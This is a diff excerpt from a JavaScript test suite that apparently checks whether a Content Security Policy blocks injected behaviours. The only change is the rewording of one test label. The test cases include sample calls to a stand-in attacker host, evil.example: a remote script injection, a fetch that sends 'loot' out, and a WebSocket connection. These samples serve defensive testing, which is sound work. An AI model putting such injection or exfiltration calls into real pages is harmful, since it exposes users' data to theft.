@@ -93,7 +93,7 @@ it.each([
     "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
     'script-src-elem',
   ],
-  ['makes code of words', "window.setTimeout('window.isOut = true', 0)", 'script-src'],
+  ['runs code from a string', "window.setTimeout('window.isOut = true', 0)", 'script-src'],
   ['starts a thread of its own', "new Worker(URL.createObjectURL(new Blob(['']))) ", 'worker-src'],
   ['asks a foreign server', "fetch('https://evil.example/?loot').catch(() => {})", 'connect-src'],
   ['opens a socket', "new WebSocket('wss://evil.example/')", 'connect-src'],
